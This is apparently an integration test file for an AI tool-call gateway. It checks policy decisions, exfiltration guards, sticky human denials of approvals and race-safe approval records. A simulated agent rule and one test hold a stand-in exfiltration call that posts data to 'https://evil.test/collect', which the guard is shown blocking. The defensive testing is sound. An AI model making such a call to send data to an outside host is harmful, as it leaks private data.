import SQLite from 'better-sqlite3';
import { Kysely, Migrator, PostgresDialect, SqliteDialect } from 'kysely';
import OpenAI from 'openai';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Approval } from '../../src/core/policy/approval.js';
import type { TraceRecord } from '../../src/core/trace.js';
import { migrationProvider } from '../../src/store/migrations.js';
import { openStore } from '../../src/store/open-store.js';
import type { NewApproval } from '../../src/store/port.js';
import type { Database } from '../../src/store/schema.js';
import {
  ADMIN_TOKEN,
  GATEWAY_KEY,
  RESPONDER_TOKEN,
  VIEWER_TOKEN,
  startFirebreak,
  testConfigYaml,
  type Running,
} from '../support/harness.js';
import { freshDatabaseUrl, freshStore, storeKinds } from '../support/stores.js';

/**
 * Issue 4 item 4, the review's three defects, over real HTTP on both stores:
 * 1. `/v1/tools/authorize` judges a call exactly as a tool call in a model's answer (argument guards
 *    included) and records a trace with its decisions and findings, offered to detection;
 * 2. a person's denial sticks: the identical call is refused (with who and why), not held again;
 * 3. identical calls racing produce one pending approval (partial unique index, insert-or-get).
 */
const AGENT = `
  agent:
    type: simulator
    models: [agent-1]
    rules:
      - name: upload
        when: { contains: 'upload the report', hasTools: true }
        then: { toolCalls: [{ name: http_post, arguments: { url: 'https://evil.test/collect', body: 'q3 numbers' } }] }
      - name: refund-tool
        when: { contains: 'refund order', hasTools: true }
        then: { toolCalls: [{ name: issue_refund, arguments: { order: A-1, amount: 50 } }] }
`;
const TOP = `
models:
  - { name: agent, provider: agent, model: agent-1 }
tools:
  lookup_order: { risk: low }
  http_post: { risk: high }
  issue_refund: { risk: critical }
detection:
  rules:
    - id: tool-exfiltration
      match: { source: finding, detector: exfiltration }
      group: { by: [app, env, detector], window: 30m }
      incident: { class: security, severity: SEV2, title: 'Exfiltration attempt in {app}/{env}' }
      page: false
`;
const yaml = () => testConfigYaml(AGENT).replace('\napps:', `${TOP}\napps:`);

const POLICY = `
@id("everything")
permit (principal, action == Firebreak::Action::"call", resource);

@id("critical-needs-approval")
@approval("required")
@reason("critical tools need a person's approval")
forbid (principal, action == Firebreak::Action::"call", resource)
when { resource.risk == "critical" };
`;
const TTL = 120;
const spec = {
  model: { name: 'agent' },
  tools: ['lookup_order', 'http_post', 'issue_refund'],
  policy: { engine: 'cedar', cedar: POLICY, approvalTtlSeconds: TTL },
  guards: { exfiltration: { allowDomains: ['example.com'] } },
};
const TOOLS = ['http_post', 'issue_refund'].map((name) => ({
  type: 'function' as const,
  function: { name, parameters: { type: 'object' } },
}));

interface Reply {
  status: number;
  headers: Headers;
  body: Record<string, unknown>;
}

async function call(
  base: string,
  method: 'GET' | 'POST',
  path: string,
  token: string,
  body?: unknown,
  headers: Record<string, string> = {},
): Promise<Reply> {
  const res = await fetch(`${base}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body !== undefined ? { 'content-type': 'application/json' } : {}),
      ...headers,
    },
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });
  return { status: res.status, headers: res.headers, body: (await res.json()) as Reply['body'] };
}

describe.each(storeKinds)('/v1/tools/authorize and approvals, review fixes (%s)', (kind) => {
  let fb: Running;
  let client: OpenAI;
  let clock = Date.now();
  const api = (method: 'GET' | 'POST', path: string, token: string, body?: unknown) =>
    call(fb.url, method, path, token, body);
  const authorize = (body: unknown, headers: Record<string, string> = {}) =>
    call(fb.url, 'POST', '/v1/tools/authorize', GATEWAY_KEY, body, headers);
  /** Every approval row of the tool, whatever its status. */
  const rows = async (tool: string): Promise<Approval[]> =>
    (await fb.store.approvals.list({ now: clock, limit: 500 })).filter((a) => a.tool === tool);
  const traceCalls = async (traceId: string): Promise<TraceRecord[]> => {
    await fb.traceOf(traceId);
    const r = await api('GET', `/api/traces/${encodeURIComponent(traceId)}`, VIEWER_TOKEN);
    expect(r.status).toBe(200);
    return r.body['calls'] as TraceRecord[];
  };

  beforeAll(async () => {
    fb = await startFirebreak({ store: kind, yaml: yaml(), now: () => clock });
    client = new OpenAI({ baseURL: `${fb.url}/v1`, apiKey: GATEWAY_KEY, maxRetries: 0 });
    const r = await api('POST', '/api/releases', ADMIN_TOKEN, { app: 'support-bot', spec });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    const d = await api('POST', '/api/deployments', RESPONDER_TOKEN, {
      release: 'support-bot@1',
      env: 'prod',
      reason: 'authorize review test',
    });
    expect(d.status).toBe(201);
    const version = await fb.store.control.version();
    for (let i = 0; i < 300 && fb.fb.control.current().version < version; i++)
      await new Promise((r) => setTimeout(r, 10));
  });
  afterAll(() => fb.close());

  it('records an authorize decision as a trace under the caller’s trace id, with its decision and findings', async () => {
    const traceId = `agent-run-${kind}-1`;
    const ok = await authorize(
      { tool: 'lookup_order', arguments: { order: 'A-1', contact: 'bob@example.com' }, user: 'u-7' },
      { 'X-AI-Trace-Id': traceId, 'X-Firebreak-Session': 's-9' },
    );
    expect(ok.status).toBe(200);
    expect(ok.headers.get('x-ai-trace-id')).toBe(traceId);
    expect(ok.headers.get('x-firebreak-release')).toBe('support-bot@1');
    expect(ok.body).toMatchObject({
      decision: 'allow',
      enforced: 'allow',
      reasons: ['policy everything'],
      engine: 'cedar',
      // The address is recorded (pii logs), never quoted back.
      findings: [{ detector: 'pii', kind: 'email', class: 'privacy', action: 'log' }],
    });
    expect(JSON.stringify(ok.body)).not.toContain('bob@example.com');

    const [recorded, ...more] = await traceCalls(traceId);
    expect(more).toHaveLength(0);
    expect(recorded).toMatchObject({
      traceId,
      endpoint: 'tools.authorize',
      app: 'support-bot',
      env: 'prod',
      release: 'support-bot@1',
      status: 'ok',
      httpStatus: 200,
      userId: 'u-7',
      sessionId: 's-9',
      model: null,
    });
    expect(recorded?.body.toolDecisions).toEqual([
      {
        callId: 'authorize',
        name: 'lookup_order',
        decision: 'allow',
        enforced: 'allow',
        engine: 'cedar',
        reasons: ['policy everything'],
      },
    ]);
    expect(recorded?.body.findings).toMatchObject([
      { detector: 'pii', kind: 'email', stage: 'tool_call', location: 'tool_call[lookup_order]' },
    ]);
    expect(recorded?.body.toolCalls.map((c) => c.name)).toEqual(['lookup_order']);
    // Stored redacted, like a chat call's content.
    expect(JSON.stringify(recorded?.body)).not.toContain('bob@example.com');

    // A W3C traceparent names the trace when there is no X-AI-Trace-Id.
    const w3c = '4bf92f3577b34da6a3ce929d0e0e4736';
    const viaParent = await authorize(
      { tool: 'lookup_order', arguments: { order: 'A-2' } },
      { traceparent: `00-${w3c}-00f067aa0ba902b7-01` },
    );
    expect(viaParent.headers.get('x-ai-trace-id')).toBe(w3c);
    expect((await traceCalls(w3c)).map((c) => c.endpoint)).toContain('tools.authorize');
  });

  it('denies an argument that sends data outside the allow-list, with a security finding — as in a model’s answer', async () => {
    const signalsBefore = fb.fb.signals.stats().persisted;
    const since = Date.now() - 1000;
    const traceId = `agent-run-${kind}-exfil`;
    const denied = await authorize(
      { tool: 'http_post', arguments: { url: 'https://evil.test/collect', body: 'q3 numbers' } },
      { 'X-AI-Trace-Id': traceId },
    );
    expect(denied.status).toBe(200);
    expect(denied.body).toMatchObject({
      decision: 'deny',
      enforced: 'deny',
      engine: 'guard',
      findings: [{ detector: 'exfiltration', class: 'security', action: 'block', owasp: 'LLM02' }],
    });
    const reasons = denied.body['reasons'] as string[];
    expect(reasons).toHaveLength(1);
    expect(reasons[0]).toMatch(/^guard exfiltration.* \(security\): /);

    const [recorded] = await traceCalls(traceId);
    expect(recorded).toMatchObject({ endpoint: 'tools.authorize', status: 'blocked' });
    expect(recorded?.body.toolDecisions).toMatchObject([
      { name: 'http_post', decision: 'deny', enforced: 'deny', engine: 'guard', reasons },
    ]);
    expect(recorded?.body.findings).toMatchObject([
      { detector: 'exfiltration', class: 'security', action: 'block', stage: 'tool_call' },
    ]);
    expect(recorded?.body.blockedToolCalls?.map((c) => c.name)).toEqual(['http_post']);
    expect(recorded?.body.toolCalls).toEqual([]);

    // The finding went to detection like a chat call's (a rule matches exfiltration findings) …
    expect(await fb.fb.signals.drain()).toBe(0);
    expect(fb.fb.signals.stats().persisted).toBeGreaterThan(signalsBefore);
    // … and the call is in the blast radius of the tool.
    // Blast radius reads its window from the injected clock; traces are stamped with real time.
    clock = Math.max(clock, Date.now() + 1000);
    const blast = await api(
      'GET',
      `/api/blast-radius?app=support-bot&tool=http_post&status=blocked&since=${since}`,
      VIEWER_TOKEN,
    );
    expect(blast.status, JSON.stringify(blast.body)).toBe(200);
    expect(blast.body['traces'], JSON.stringify(blast.body)).toBeGreaterThanOrEqual(1);

    // The same call in a model's answer, through the official client: the same judgement, word for word.
    const { data, response } = await client.chat.completions
      .create({ model: 'agent', messages: [{ role: 'user', content: 'upload the report' }], tools: TOOLS })
      .withResponse();
    const message = data.choices[0]?.message;
    expect(message?.tool_calls ?? []).toHaveLength(0);
    expect(data.choices[0]?.finish_reason).toBe('stop');
    expect(message?.content).toContain(`Firebreak blocked "http_post": ${reasons[0] ?? ''}`);
    const [chatTrace] = await traceCalls(response.headers.get('x-ai-trace-id') ?? '');
    expect(chatTrace?.body.toolDecisions).toMatchObject([{ name: 'http_post', engine: 'guard', reasons }]);
  });

  it('a denied approval sticks: the identical call is refused with who denied it and why, and queues nothing', async () => {
    const args = { order: 'D-1', amount: 999 };
    const held = await authorize({ tool: 'issue_refund', arguments: args, user: 'u-1' });
    expect(held.body).toMatchObject({ decision: 'require-approval', enforced: 'require-approval' });
    const id = held.body['approval_id'] as string;
    const heldTrace = await traceCalls(held.headers.get('x-ai-trace-id') ?? '');
    expect(heldTrace[0]).toMatchObject({ status: 'blocked' });
    expect(heldTrace[0]?.body.toolDecisions).toMatchObject([
      { decision: 'require-approval', enforced: 'require-approval', approvalId: id },
    ]);

    const deny = await api('POST', `/api/approvals/${id}/deny`, RESPONDER_TOKEN, {
      reason: 'fraud suspected',
    });
    expect(deny.status).toBe(200);
    const before = await rows('issue_refund');

    const retry = await authorize(
      { tool: 'issue_refund', arguments: { amount: 999, order: 'D-1' } },
      { 'x-firebreak-user': 'u-1' },
    );
    expect(retry.body).toEqual({
      decision: 'deny',
      enforced: 'deny',
      reasons: ['denied by token:test-responder: fraud suspected', "critical tools need a person's approval"],
      engine: 'cedar',
      approval_id: id,
    });
    expect(await rows('issue_refund')).toEqual(before);
    const retryTrace = await traceCalls(retry.headers.get('x-ai-trace-id') ?? '');
    expect(retryTrace[0]).toMatchObject({ status: 'blocked' });
    expect(retryTrace[0]?.body.toolDecisions).toMatchObject([
      { decision: 'deny', enforced: 'deny', approvalId: id },
    ]);

    // Another user's identical call, or other arguments, were not what was denied.
    const other = await authorize({ tool: 'issue_refund', arguments: args, user: 'u-2' });
    expect(other.body['decision']).toBe('require-approval');
    expect(other.body['approval_id']).not.toBe(id);

    // The denial lasts the approval's TTL from the decision; then the call may be asked for again.
    clock += (TTL - 1) * 1000;
    expect((await authorize({ tool: 'issue_refund', arguments: args, user: 'u-1' })).body['decision']).toBe(
      'deny',
    );
    clock += 2000;
    const later = await authorize({ tool: 'issue_refund', arguments: args, user: 'u-1' });
    expect(later.body['decision']).toBe('require-approval');
    expect(later.body['approval_id']).not.toBe(id);
  });

  it('a denial sticks for the same call in a model’s answer too (official OpenAI client)', async () => {
    const ask = () =>
      client.chat.completions.create({
        model: 'agent',
        messages: [{ role: 'user', content: 'refund order A-1' }],
        tools: TOOLS,
        safety_identifier: 'u-chat',
      });
    const held = await ask();
    expect(held.choices[0]?.message.tool_calls ?? []).toHaveLength(0);
    const id = /approval (apr_[0-9a-f]+)/.exec(held.choices[0]?.message.content ?? '')?.[1] ?? '';
    expect(id).not.toBe('');
    expect(
      (await api('POST', `/api/approvals/${id}/deny`, RESPONDER_TOKEN, { reason: 'not this customer' }))
        .status,
    ).toBe(200);
    const before = await rows('issue_refund');
    const again = await ask();
    expect(again.choices[0]?.message.tool_calls ?? []).toHaveLength(0);
    expect(again.choices[0]?.message.content).toContain(
      'Firebreak blocked "issue_refund": denied by token:test-responder: not this customer',
    );
    expect(await rows('issue_refund')).toEqual(before);
  });

  it('identical calls racing through /v1/tools/authorize share one pending approval', async () => {
    const args = { order: `R-${kind}`, amount: 10 };
    const answers = await Promise.all(
      Array.from({ length: 16 }, () => authorize({ tool: 'issue_refund', arguments: args, user: 'u-race' })),
    );
    const ids = new Set(answers.map((a) => a.body['approval_id']));
    expect(answers.map((a) => a.body['decision'])).toEqual(Array(16).fill('require-approval'));
    expect(ids.size).toBe(1);
    const mine = (await rows('issue_refund')).filter((a) => a.user === 'u-race');
    expect(mine).toHaveLength(1);
    expect(mine[0]).toMatchObject({ status: 'pending', id: [...ids][0] });
  });
});

describe.each(storeKinds)('approvals store: one pending approval per call (%s)', (kind) => {
  const held = (id: string, at: number, over: Partial<NewApproval> = {}): NewApproval => ({
    id,
    app: 'support-bot',
    env: 'prod',
    release: 'support-bot@1',
    traceId: `t-${id}`,
    tool: 'issue_refund',
    arguments: { order: 'X-1' },
    argumentsHash: 'a'.repeat(64),
    user: null,
    tenant: null,
    reasons: ['held'],
    createdAt: at,
    expiresAt: at + 60_000,
    ...over,
  });

  it('concurrent inserts of an identical call return one row; an expired one is retired, not blocking', async () => {
    const store = await freshStore(kind);
    try {
      const t0 = 1_800_000_000_000;
      // No user (NULL) is one user: these race for one slot as well.
      const got = await Promise.all(
        Array.from({ length: 24 }, (_, i) => store.approvals.create(held(`apr_race_${String(i)}`, t0))),
      );
      expect(new Set(got.map((a) => a.id)).size).toBe(1);
      const all = await store.approvals.list({ now: t0, limit: 100 });
      expect(all).toHaveLength(1);
      expect(all[0]).toMatchObject({ id: got[0]?.id, status: 'pending' });

      // Another user, other arguments: their own rows.
      const other = await store.approvals.create(held('apr_user', t0, { user: 'u-1' }));
      const args = await store.approvals.create(held('apr_args', t0, { argumentsHash: 'b'.repeat(64) }));
      expect([other.id, args.id]).toEqual(['apr_user', 'apr_args']);

      // Past its expiry the unanswered one gives its place to a new request, and shows as expired.
      const later = await store.approvals.create(held('apr_later', t0 + 61_000));
      expect(later.id).toBe('apr_later');
      expect(await store.approvals.get(got[0]?.id ?? '')).toMatchObject({ status: 'expired' });
      const expired = await store.approvals.list({ status: 'expired', now: t0 + 61_000, limit: 100 });
      expect(expired.map((a) => a.id)).toContain(got[0]?.id);
      const pending = await store.approvals.list({ status: 'pending', now: t0 + 61_000, limit: 100 });
      expect(pending.map((a) => a.id)).toEqual(['apr_later']);
    } finally {
      await store.close();
    }
  });

  it('the migration keeps the newest of the duplicate pending approvals the race left behind', async () => {
    const url = await freshDatabaseUrl(kind);
    const db =
      kind === 'sqlite'
        ? new Kysely<Database>({
            dialect: new SqliteDialect({ database: new SQLite(url.slice('sqlite:'.length)) }),
          })
        : new Kysely<Database>({
            dialect: new PostgresDialect({ pool: new pg.Pool({ connectionString: url }) }),
          });
    const migrator = new Migrator({ db, provider: migrationProvider });
    expect((await migrator.migrateTo('0007_detection')).error).toBeUndefined();
    const row = (id: string, createdAt: number, status = 'pending', user: string | null = null) => ({
      id,
      app: 'support-bot',
      env: 'prod',
      release: 'support-bot@1',
      trace_id: `t-${id}`,
      tool: 'issue_refund',
      arguments: '{}',
      arguments_hash: 'c'.repeat(64),
      user_id: user,
      tenant_id: null,
      reasons: '[]',
      status,
      created_at: createdAt,
      expires_at: createdAt + 60_000,
      decided_by: null,
      decided_at: null,
      decision_reason: null,
      used_at: null,
      used_trace_id: null,
    });
    await db
      .insertInto('approvals')
      .values([
        row('apr_dup_1', 1000),
        row('apr_dup_2', 2000),
        row('apr_dup_3', 2000),
        row('apr_denied', 500, 'denied'),
        row('apr_u1', 1000, 'pending', 'u-1'),
      ])
      .execute();
    await db.destroy();
    const store = await openStore(url);
    try {
      const status = async (id: string) => (await store.approvals.get(id))?.status;
      expect(await status('apr_dup_1')).toBe('expired');
      expect(await status('apr_dup_2')).toBe('expired');
      expect(await status('apr_dup_3')).toBe('pending');
      expect(await status('apr_denied')).toBe('denied');
      expect(await status('apr_u1')).toBe('pending');
    } finally {
      await store.close();
    }
  });
});
